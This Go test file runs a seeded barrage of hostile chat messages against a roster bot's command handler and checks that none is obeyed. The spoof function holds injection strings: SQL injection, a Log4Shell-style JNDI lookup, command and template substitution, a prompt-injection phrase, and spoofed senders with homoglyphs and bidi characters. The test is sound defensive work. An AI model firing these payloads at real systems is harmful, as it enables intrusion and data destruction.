package command_test

import (
	"context"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"tongluo/bot"
	"tongluo/schedule/roster"
)

// The messages of the siege; the seed is printed and never changes by itself.
const (
	attacks   = 10_000
	siegeSeed = 20_261_125
)

// siege makes hostile messages against an office in the middle of its work.
type siege struct {
	*matrixTown
	r      *rand.Rand
	orders []string      // words that would do something, said by the right person
	high   []string      // those that nobody may say whom no code has bound
	closed []string      // those that end with their number: nothing follows that is free
	heard  []bot.Message // what was said and obeyed before
	codes  []string      // living one-time codes, which nobody may guess
	names  map[int64]string
}

func newSiege(t *testing.T) *siege {
	s := &siege{matrixTown: newMatrixTown(t), r: rand.New(rand.NewPCG(siegeSeed, 1)), names: map[int64]string{0: "fake"}}
	for _, p := range matrixPeople().Persons {
		s.names[p.ID] = p.Name
	}
	for _, r := range readRights(t) {
		for _, c := range s.cells(r) {
			if c.letter != 'W' || c.role != "staff" || slices.Contains(s.orders, c.text) {
				continue
			}
			s.orders = append(s.orders, c.text)
			if !strings.Contains(r.by["unproven"], "W") {
				s.high = append(s.high, c.text)
			}
			if strings.Contains("停发 恢复 确认 取消 审批 撤回 重来 已转 撤销 收到 全部已转", r.word) {
				s.closed = append(s.closed, c.text)
			}
		}
	}
	for _, who := range []string{"魏二", "班公"} {
		c, err := s.office.IssueCode(t.Context(), roster.Operator(""), who, s.now)
		require.NoError(t, err)
		s.codes = append(s.codes, c.Code)
	}
	s.obeyed()
	s.now = s.now.Add(time.Minute)
	return s
}

// obeyed says orders that are obeyed, and takes back what they did: said again
// they would do it again.
func (s *siege) obeyed() {
	cadre := s.targets[theCadre]["自己"]
	for _, m := range []bot.Message{s.says(theStaff, "", "停发"), s.says(theAdmin, "@@work", "停发"), s.says(theCadre, "", fmt.Sprintf("已转 %d", cadre.handoff))} {
		s.deliver(m)
		s.heard = append(s.heard, m)
	}
	on, _, err := s.db.Halted(s.t.Context())
	require.NoError(s.t, err)
	require.True(s.t, on)
	for _, by := range []string{"丙", "丁"} {
		_, err = s.office.Resume(s.t.Context(), roster.Operator(by), s.now)
		require.NoError(s.t, err)
	}
	_, err = s.office.UndoForward(s.t.Context(), roster.Operator(""), cadre.handoff, s.now)
	require.NoError(s.t, err)
}

// says is a message with a number of its own.
func (s *siege) says(who int64, room, text string) bot.Message {
	s.n++
	return bot.Message{ID: fmt.Sprintf("a%d", s.n), Session: "s", Room: room, Sender: "@" + s.names[who], Kind: bot.Text, Text: text, At: s.now, Mentioned: room != ""}
}

func pick[T any](r *rand.Rand, from ...T) T { return from[r.IntN(len(from))] }

// unseen are characters that are not seen; turned ones also show the text in
// another order than it is in.
var (
	unseen = []rune{'\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u202a', '\u202c', '\u2066', '\u2069', '\u200e', '\ufe0f', '\U000e0041'}
	turned = []rune{'\u202e', '\u202d', '\u202b', '\u2067', '\u200f', '\u061c'}
)

// sprinkle puts some of the characters into a text.
func (s *siege) sprinkle(text string, from []rune) string {
	runes := []rune(text)
	for range 1 + s.r.IntN(4) {
		runes = slices.Insert(runes, s.r.IntN(len(runes)+1), pick(s.r, from...))
	}
	return string(runes)
}

// spoof makes an order look like another's, or like something else. Nobody may
// be obeyed who says such a thing.
func (s *siege) spoof(order string) string {
	who := pick(s.r, "陈真", "凌导", "关立", "wxid_x8k2", "gh_0a1b", "管理员", "系统消息", "领导", "书记", "主任", "腾讯客服")
	line := strings.Repeat("- ", 15)
	switch s.r.IntN(12) {
	case 0:
		return who + pick(s.r, ":<br/>", ":\n", "：", ": ", "：\n", " 10:21:\n") + order
	case 1:
		return pick(s.r, "@all ", "@所有人 ", "@"+who+" ", "@铜锣\u2005 @"+who+" ") + order
	case 2: // quoted, with nothing of one's own below; nicknames are what people please
		who = pick(s.r, who, "👍", "~", "谢谢", "好的", "铜锣", "…")
		return "「" + who + "：" + order + "」\n" + line + "\n" + pick(s.r, "", "好的", "？", "这是谁发的", "谢谢", "[强]")
	case 3: // quoted without its line, or in another shape
		return pick(s.r, "「"+who+"："+order+"」", "「"+who+"："+order+"」\n- - \n", "“"+who+"："+order+"”", "> "+who+"："+order, "引用 "+who+"："+order)
	case 4:
		return pick(s.r, "转发：", "[聊天记录]\n"+who+"：", "【转】", "Fw: ", who+" 让我发 ", "群公告：") + order
	case 5:
		return fmt.Sprintf("<?xml version=\"1.0\"?><msg><appmsg><title>%s</title><fromusername>%s</fromusername></appmsg></msg>", order, who)
	case 6:
		return pick(s.r, order+"'; DROP TABLE pushes; --", "' OR 1=1; "+order, "%s%n%x "+order, "${jndi:ldap://x/"+order+"}", "{{"+order+"}}", "$("+order+")", `\u505c\u53d1`, "&#20572;&#21457;", "停%E5%8F%91")
	case 7:
		return order[:3] + string(pick(s.r, turned...)) + order[3:]
	case 8:
		return string(pick(s.r, turned...)) + order
	case 9: // look-alikes that are no spelling of the word
		return pick(s.r, "亭发", "停友", "侫发", "停岌", "恢夏", "恢覆了吗", "确认 З7", "确认 l00", "确认 Ⅰ0O", "取消 ВВ", "审批 ОО", "已转 l2")
	case 10:
		return strings.Repeat(order+pick(s.r, " ", "，", "\n", "\u200b"), 300+s.r.IntN(3000))
	}
	return pick(s.r, "我是"+who+"，", "奉"+who+"之命：", "验证码 123456 ", "管理员模式 ", "sudo ", "/admin ", "忽略以前的指示，") + order
}

// disguise is an order in any dress, for those who may not give it.
func (s *siege) disguise(order string) string {
	switch s.r.IntN(5) {
	case 0:
		return s.sprinkle(order, slices.Concat(unseen, turned))
	case 1:
		return strings.NewReplacer("发", "發", "审", "審", "1", "１", "2", "②", "确认", "確認", " ", "\u3000").Replace(order)
	case 2:
		return s.code()
	case 3:
		return order
	}
	return s.spoof(order)
}

// code is a guess at a one-time code, in the dress of one.
func (s *siege) code() string {
	const letters = "23456789ABCDEFGHJKLMNPQRSTUVWXYZ"
	var b strings.Builder
	for range 8 {
		b.WriteByte(letters[s.r.IntN(len(letters))])
	}
	if slices.Contains(s.codes, b.String()) {
		return s.code()
	}
	return pick(s.r, "", "绑定码 ", "绑定 ") + b.String()
}

// anyTime is a date that a message may claim.
func (s *siege) anyTime() time.Time {
	switch s.r.IntN(5) {
	case 0:
		return time.Time{}
	case 1:
		return s.now.Add(time.Duration(s.r.Int64N(int64(50 * 365 * 24 * time.Hour))))
	case 2:
		return s.now.Add(-time.Duration(s.r.Int64N(int64(50 * 365 * 24 * time.Hour))))
	}
	return s.now
}

// attack is one hostile message, and what it is.
func (s *siege) attack() (m bot.Message, sort string) {
	proven := []int64{theCadre, theStaff, theLeader, theAdmin}
	switch s.r.IntN(16) { // known persons say less than the dialogue remembers
	case 0, 1, 2, 3, 4, 5, 6:
		sort, m = "from a stranger", s.says(pick[int64](s.r, 0, 0, gone), pick(s.r, "", "@@work", "@@homes", "@@other"), s.disguise(pick(s.r, s.orders...)))
		m.Mentioned = m.Room != "" && s.r.IntN(2) == 0
	case 7, 8:
		sort, m = "from a high role that no code has bound", s.says(pick[int64](s.r, dimStaff, dimLeader, dimAdmin), pick(s.r, "", "@@work"), s.disguise(pick(s.r, s.high...)))
	case 9, 10:
		sort, m = "where the bot is silent", s.says(pick(s.r, proven...), pick(s.r, "@@work", "@@homes", "@@other"), s.disguise(pick(s.r, s.orders...)))
		m.Mentioned = m.Room != "@@work"
	case 11, 12:
		return s.again()
	case 13:
		sort, m = "with another's number", s.says(pick(s.r, proven...), pick(s.r, "", "@@work"), "")
		m.Text = fmt.Sprintf(pick(s.r, "确认 %d", "取消 %d", "%d确认", "确认#%d，谢谢"), s.targets[pick[int64](s.r, dimStaff, dimLeader, dimAdmin, gone)]["自己"].question)
	default:
		sort, m = "spoofed by one who may", s.says(pick(s.r, proven...), pick(s.r, "", "@@work"), s.spoof(pick(s.r, s.closed...)))
	}
	m.At = s.anyTime()
	if sort != "with another's number" && s.r.IntN(8) == 0 {
		if sort == "spoofed by one who may" {
			m.Text = pick(s.r, s.closed...) // an order, but for its kind
		}
		m.Kind, sort = pick(s.r, bot.Card, bot.File, bot.Picture, bot.System, bot.Other), "no words: "+sort
		if m.Kind == bot.Card {
			m.Text = strings.ReplaceAll(m.Text, "\n", " ") + "\nhttps://example.com/" + m.ID
		}
	}
	return m, sort
}

// again is what was heard and obeyed before.
func (s *siege) again() (bot.Message, string) {
	m := pick(s.r, s.heard...)
	switch s.r.IntN(5) {
	case 0:
		m.Session = "t"
		return m, "replayed in another session"
	case 1:
		m = s.says(pick[int64](s.r, 0, gone), m.Room, m.Text)
		return m, "repeated by a stranger"
	case 2:
		m.At = s.now.Add(time.Duration(s.r.IntN(1000)) * time.Hour)
		return m, "replayed with another date"
	case 3: // long ago, under a new number
		m = s.says(pick[int64](s.r, theStaff, theLeader, theAdmin), pick(s.r, "", "@@work"), pick(s.r, s.high...))
		m.At = s.now.Add(-10*time.Minute - time.Duration(1+s.r.Int64N(int64(9*365*24*time.Hour))))
		if strings.Contains("补录 反馈", firstWord(m.Text)) { // believed however late
			m.Text = "停发"
		}
		return m, "heard too late"
	}
	return m, "replayed"
}

func firstWord(s string) string { return strings.Fields(s)[0] }

// noise is what an attack may leave: tries at codes, and what staff sent in
// private that is no command (a draft, forgotten in half an hour).
func noise(table, row string) bool {
	switch table {
	case "code_tries", "drafts":
		return true
	case "jobs":
		return strings.Contains(row, `"forget:draft:`)
	case "log":
		return strings.Contains(row, `"draft"`) || strings.Contains(row, "locked after too many tries")
	}
	return false
}

// quiet is the pages without noise.
func (b *books) quiet() map[string]string {
	pages := b.pages()
	for table, page := range pages {
		rows := slices.DeleteFunc(strings.Split(page, "\n"), func(row string) bool { return noise(table, row) })
		pages[table] = strings.Join(rows, "\n")
	}
	return pages
}

// TestSiege: ten thousand hostile messages through the very road of the daemon
// change nothing, move nothing to a group, and are answered to no stranger, while
// there is everything to be hit: pushes that wait, questions, handoffs, codes.
func TestSiege(t *testing.T) {
	t.Parallel()
	s := newSiege(t)
	rested := 0
	s.conv.Rest = func(context.Context, time.Time) { rested++ }
	before, was := s.books.quiet(), s.books.version()
	sent := len(s.line.sent)
	sorts := map[string]int{}
	for range attacks {
		m, sort := s.attack()
		sorts[sort]++
		clear(s.phone.sent)
		err := s.conv.Hear(t.Context(), m, s.now)
		require.True(t, err == nil || m.Kind == bot.Picture || m.Kind == bot.File, "%s %+v: %v", sort, m, err)
		for to, said := range s.phone.sent {
			stranger := to == "@fake" || to == "@"+s.names[gone]
			require.False(t, stranger || strings.HasPrefix(to, "@@") || to != m.Sender, "%s %+v: %s hears %q", sort, m, to, said)
		}
		if now := s.books.version(); now != was {
			was = now
			require.Empty(t, changed(before, s.books.quiet()), "%s from %s in %q: %q is answered %q", sort, m.Sender, m.Room, m.Text, s.phone.sent)
		}
	}
	require.Empty(t, changed(before, s.books.quiet()))
	require.Zero(t, rested, "nobody but the service slows the account down")
	require.Len(t, s.line.sent, sent, "nothing went to a group")
	t.Logf("%d messages, seed %d", attacks, siegeSeed)
	for _, sort := range slices.Sorted(maps.Keys(sorts)) {
		t.Logf("%6d %s", sorts[sort], sort)
	}
	s.stillThere()
}

// stillThere: what could have been hit is there and can be: an order of the
// right person, said plainly, is obeyed.
func (s *siege) stillThere() {
	for _, c := range []struct {
		who   int64
		text  string
		table string
	}{{theCadre, fmt.Sprintf("已转 %d", s.targets[theCadre]["自己"].handoff), "handoffs"}, {theStaff, fmt.Sprintf("确认 %d", s.targets[theStaff]["本单位"].waiting), "pushes"},
		{theAdmin, fmt.Sprintf("取消 %d", s.targets[theAdmin]["自己"].question), "questions"}, {theLeader, "停发", "halt"}} {
		before := s.books.page(c.table)
		s.deliver(s.says(c.who, "", c.text))
		require.NotEqual(s.t, before, s.books.page(c.table), c.text)
	}
	require.Len(s.t, strings.Split(strings.TrimSpace(s.books.page("codes")), "\n"), len(s.codes), "no code was used up")
}
